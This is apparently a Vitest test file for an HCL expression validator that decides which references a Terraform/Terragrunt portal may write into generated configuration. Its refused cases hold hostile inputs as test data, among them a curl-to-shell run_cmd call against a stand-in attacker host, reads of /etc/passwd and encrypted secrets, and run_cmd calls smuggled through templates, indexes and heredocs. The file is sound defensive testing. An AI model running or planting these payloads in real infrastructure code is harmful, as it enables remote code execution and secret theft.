import { describe, expect, it } from "vitest";
import { checkHclExpression, TERRAFORM_MODULE_EXPRESSION_POLICY, TERRAGRUNT_UNIT_EXPRESSION_POLICY } from "./check-hcl-expression";
import { emitHclValue } from "./emit-hcl";
import { parseHclExpression } from "./parse-hcl-expression";
import { renderTerraformModuleBlock, renderTerragruntUnit } from "./render-unit";

const refused = (text: string, policy = TERRAGRUNT_UNIT_EXPRESSION_POLICY) => {
  const result = checkHclExpression(text, policy);
  return result.ok ? `accepted as ${result.text}` : result.message;
};

describe("checkHclExpression: what is allowed", () => {
  it.each([
    ["dependency.vpc.outputs.vpc_id", "dependency.vpc.outputs.vpc_id", "unknown"],
    ["  dependency . vpc . outputs . vpc_id  ", "dependency.vpc.outputs.vpc_id", "unknown"],
    ["dependency.vpc.outputs.subnets[0].id", "dependency.vpc.outputs.subnets[0].id", "unknown"],
    ['dependency.vpc.outputs.by_az["eu-west-1a"]', 'dependency.vpc.outputs.by_az["eu-west-1a"]', "unknown"],
    ["dependency.vpc.outputs.subnets[*].id", "dependency.vpc.outputs.subnets[*].id", "unknown"],
    ["dependency.vpc /* the network */ .outputs.vpc_id # trailing", "dependency.vpc.outputs.vpc_id", "unknown"],
    ['get_env("TF_VAR_db_password")', 'get_env("TF_VAR_db_password")', "string"],
    ['get_env( "TF_VAR_REGION" , "eu-west-1" )', 'get_env("TF_VAR_REGION", "eu-west-1")', "string"],
    ['get_env("TF_VAR_X", "$${literal}")', 'get_env("TF_VAR_X", "$${literal}")', "string"],
    ['tonumber(get_env("TF_VAR_PORT"))', 'tonumber(get_env("TF_VAR_PORT"))', "number"],
    ["tobool(dependency.flags.outputs.on)", "tobool(dependency.flags.outputs.on)", "bool"],
    ["(dependency.vpc.outputs.vpc_id)", "dependency.vpc.outputs.vpc_id", "unknown"],
  ])("%s", (text, canonical, type) => {
    expect(checkHclExpression(text, TERRAGRUNT_UNIT_EXPRESSION_POLICY)).toEqual({ ok: true, text: canonical, type, dependencies: expect.any(Array) });
  });

  it("allows var. and local. only where the file has them", () => {
    expect(checkHclExpression("var.db_password", TERRAFORM_MODULE_EXPRESSION_POLICY)).toMatchObject({ ok: true, text: "var.db_password" });
    expect(checkHclExpression('local.tags["team"]', TERRAFORM_MODULE_EXPRESSION_POLICY)).toMatchObject({ ok: true, text: 'local.tags["team"]' });
    expect(refused("var.db_password")).toMatch(/^var\.<name> references are not available in this file/);
    expect(refused("local.region")).toMatch(/^local\.<name> references are not available/);
    expect(refused("dependency.vpc.outputs.id", TERRAFORM_MODULE_EXPRESSION_POLICY)).toMatch(/^dependency\.<unit>\.outputs\.<name> references are not available/);
  });

  it("lets a non-sensitive input read only TF_VAR_<name> variables, so CI's secrets stay out of plan output", () => {
    for (const name of ["AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN", "DB_PASSWORD", "TF_VAR_", "tf_var_x", "X_TF_VAR_Y"]) {
      expect(refused(`get_env("${name}")`)).toMatch(
        new RegExp(`^get_env\\("${name}"\\): this input is not sensitive, so its value would be printed in the plan output; read a TF_VAR_<name> variable here`),
      );
      expect(refused(`tostring(get_env("${name}", "x"))`, TERRAFORM_MODULE_EXPRESSION_POLICY)).toMatch(/this input is not sensitive/);
    }
    expect(refused('get_env("GITHUB_TOKEN")')).toMatch(/Allowed here: .*get_env\("TF_VAR_<name>"\)/);
    // A sensitive input (Terraform masks its value) may read any portable name.
    const sensitive = { ...TERRAGRUNT_UNIT_EXPRESSION_POLICY, envNames: "any" as const };
    expect(checkHclExpression('get_env("DB_PASSWORD")', sensitive)).toMatchObject({ ok: true, text: 'get_env("DB_PASSWORD")' });
    expect(refused('get_env("my-path")', sensitive)).toMatch(/environment variable names are letters, digits and underscores/);
  });

  it("limits dependencies to the ones the unit has, when told", () => {
    const policy = { ...TERRAGRUNT_UNIT_EXPRESSION_POLICY, dependencies: new Set(["vpc", "kms"]) };
    expect(checkHclExpression("dependency.kms.outputs.key_arn", policy)).toMatchObject({ ok: true, dependencies: ["kms"] });
    expect(refused("dependency.secrets.outputs.password", policy)).toMatch(/There is no dependency "secrets" to read from \(known: kms, vpc\)/);
  });
});

describe("checkHclExpression: what is refused, and why", () => {
  it.each([
    // The attack from the security review, and its relatives.
    ['run_cmd("sh", "-c", "curl -s http://attacker.example/x | sh")', /^The function run_cmd\(\) is not allowed/],
    ['sops_decrypt_file("secrets.yaml")', /^The function sops_decrypt_file\(\) is not allowed/],
    ['read_terragrunt_config("../root.hcl")', /^The function read_terragrunt_config\(\) is not allowed/],
    ['file("/etc/passwd")', /^The function file\(\) is not allowed/],
    ['templatefile("x.tpl", {})', /^The function templatefile\(\) is not allowed/],
    ['find_in_parent_folders("root.hcl")', /^The function find_in_parent_folders\(\) is not allowed/],
    ['provider::aws::arn_parse("x")', /^The function provider::aws::arn_parse\(\) is not allowed/],
    ['tostring(run_cmd("id"))', /^The function run_cmd\(\) is not allowed/],
    ['dependency.vpc.outputs.x[run_cmd("id")]', /^An index must be a whole number or a quoted string/],
    ['get_env(run_cmd("id"))', /^get_env's variable name must be a quoted string/],
    ['get_env("X", run_cmd("id"))', /^get_env's default must be a quoted string/],
    ['get_env("${run_cmd("id")}")', /^get_env's variable name must be a plain quoted string, without "\$\{…\}" \(it calls run_cmd\)/],
    ['get_env("my-path")', /environment variable names are letters, digits and underscores/],
    ['get_env("A B")', /environment variable names are letters, digits and underscores/],
    ['get_env("")', /environment variable names are letters, digits and underscores/],
    ['get_env("A", "b", "c")', /get_env takes a variable name and an optional default/],
    ['"${run_cmd("id")}"', /^String templates .* are not allowed \(it calls run_cmd\)/],
    ['"prefix-${dependency.vpc.outputs.id}"', /^String templates/],
    ['"%{ if true }x%{ endif }"', /^String templates/],
    ['<<EOT\n${run_cmd("id")}\nEOT', /^Heredocs are not allowed/],
    ['<<-EOT\nx\nEOT', /^Heredocs are not allowed/],
    ["[for s in dependency.vpc.outputs.subnets : s.id]", /^for-expressions are not allowed/],
    ["{for k, v in local.x : k => v}", /^for-expressions are not allowed/],
    ["true ? dependency.a.outputs.b : dependency.c.outputs.d", /^Conditional expressions/],
    ["dependency.a.outputs.b + 1", /^Operators \(\+\) are not allowed/],
    ["!dependency.a.outputs.b", /^Operators \(!\) are not allowed/],
    ["dependency.vpc.outputs.subnets.*.id", /^Write the splat as \[\*\] rather than \.\*/],
    ["local.subnets[*].id", /^local\.<name> references are not available/],
    ["each.value", /^"each" is not a reference the portal writes/],
    ["path.module", /^"path" is not a reference the portal writes/],
    ["dependency.vpc.inputs.cidr", /^Read a dependency's outputs/],
    ["dependency.vpc.outputs", /^Name the output/],
    ["dependency.vpc.outputs.list.0", /^Write the index in brackets: \[0\]/],
    ["dependency", /^Name what dependency refers to/],
    ['"plain"', /^This is a plain value, not a reference/],
    ["42", /^This is a plain value/],
    ["[dependency.a.outputs.b]", /^Lists written as an expression are not allowed/],
    ['{ a = "b" }', /^Objects written as an expression are not allowed/],
    ["dependency.vpc.outputs.id\nother = 1", /^Not a valid HCL expression/],
    ["dependen\u0441y.vpc.outputs.id", /^Names in references are ASCII/],
    ["dependency.vpc.outputs.id\u200b", /^Not a valid HCL expression/],
    ["get_env\uff08\"X\"\uff09", /^Not a valid HCL expression/],
    ["run_cmd /* hide */ (\"id\")", /^The function run_cmd\(\) is not allowed/],
    ["tostring(get_env(\"A\")...)", /^Argument expansion/],
    ["", /^Enter an expression/],
    ["x".repeat(1001), /at most 1000 characters/],
    [`${"(".repeat(200)}dependency.a.outputs.b${")".repeat(200)}`, /nested too deeply/],
  ])("%j", (text, message) => {
    expect(refused(text)).toMatch(message);
  });

  it("says what is allowed instead", () => {
    expect(refused('run_cmd("id")')).toContain('Allowed here: dependency.<unit>.outputs.<name>, get_env("TF_VAR_<name>")');
    expect(refused('run_cmd("id")', { ...TERRAGRUNT_UNIT_EXPRESSION_POLICY, envNames: "any" })).toContain('Allowed here: dependency.<unit>.outputs.<name>, get_env("NAME")');
  });
});

describe("the emitter and renderers as the last line", () => {
  const source = { repoUrl: "https://github.com/acme-platform/iac-modules.git", path: "modules/vpc", ref: "vpc/v1.2.0" };

  it("refuses a raw expression that is not allowed, wherever it sits in the value", () => {
    const attack = { __expr: 'run_cmd("sh", "-c", "curl -s http://attacker.example/x | sh")' };
    expect(() => emitHclValue(attack)).toThrow(/Refused to write the expression .*run_cmd\(\) is not allowed/);
    expect(() => emitHclValue({ deep: [{ a: attack }] })).toThrow(/run_cmd/);
  });

  it("writes the canonical form, not the text it was given", () => {
    expect(emitHclValue({ __expr: "dependency.vpc # comment\n.outputs.id" })).toBe("dependency.vpc.outputs.id");
  });

  it("keeps var./local. out of Terragrunt units and dependencies out of module blocks", async () => {
    await expect(renderTerragruntUnit({ source, inputs: { name: { __expr: "local.name" } } })).rejects.toThrow(/local\.<name> references are not available/);
    await expect(renderTerraformModuleBlock({ name: "vpc", source, inputs: { id: { __expr: "dependency.vpc.outputs.id" } } })).rejects.toThrow(/not available/);
    await expect(renderTerraformModuleBlock({ name: "vpc", source, inputs: { password: { __expr: "var.db_password" } } })).resolves.toContain("password = var.db_password");
  });

  it("writes a dependency block for each dependency an input reads", async () => {
    const text = await renderTerragruntUnit({ source, inputs: { vpc_id: { __expr: "dependency.vpc.outputs.vpc_id" } } });
    expect(text).toContain('dependency "vpc" {\n  config_path = "../vpc"\n}');
    expect(text).toContain("vpc_id = dependency.vpc.outputs.vpc_id");
  });
});

describe("parseHclExpression", () => {
  it("reads the whole grammar into a tree", () => {
    expect(parseHclExpression('a.b[0][*].c ? f(x, y...) : -1')).toMatchObject({ kind: "conditional", whenTrue: { kind: "call", name: "f", expand: true }, whenFalse: { kind: "unary" } });
    expect(parseHclExpression("[for x in y : x]")).toEqual({ kind: "for", form: "tuple" });
    expect(parseHclExpression("{ a = 1, \"b\" = [2] }")).toMatchObject({ kind: "object", items: [{ key: { kind: "variable", name: "a" } }, { key: { kind: "literal", value: "b" } }] });
    expect(() => parseHclExpression("a b")).toThrow(/unexpected "b"/);
  });
});
